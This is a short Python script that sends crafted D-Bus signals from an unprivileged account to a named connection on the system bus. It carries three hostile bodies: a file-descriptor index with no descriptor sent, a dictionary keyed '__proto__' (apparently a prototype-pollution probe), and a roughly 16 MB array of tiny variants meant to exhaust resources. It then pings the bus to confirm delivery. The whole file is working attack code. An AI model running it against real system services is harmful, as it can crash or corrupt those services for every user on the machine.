"""Addresses signals to a connection of the system bus, as any account may: bus-signal.py DESTINATION."""

import struct
import sys

from raw_bus import NO_REPLY, connect, message, padded, ping, signature, string

entry = string("__proto__") + signature("s")
entry = padded(entry, 4) + string("x")
BODIES = [
    # A descriptor that did not come, a name that is none of an object's own, and megabytes of small values.
    ("h", struct.pack("<I", 0)),
    ("a{sv}", padded(struct.pack("<I", len(entry)), 8) + entry),
    ("av", struct.pack("<I", 16_000_000) + b"\1y\0\0" * 4_000_000),
]

PING = 9

bus = connect()
for serial, (types, body) in enumerate(BODIES, 2):
    to = [(1, "o", "/a"), (2, "s", "a.b"), (3, "s", "C"), (6, "s", sys.argv[1]), (8, "g", types)]
    bus.sendall(message("signal", serial, to, body, NO_REPLY))
bus.sendall(ping(PING))
received = b""
while b"\5\1u\0" + struct.pack("<I", PING) not in received:
    received += bus.recv(65536)
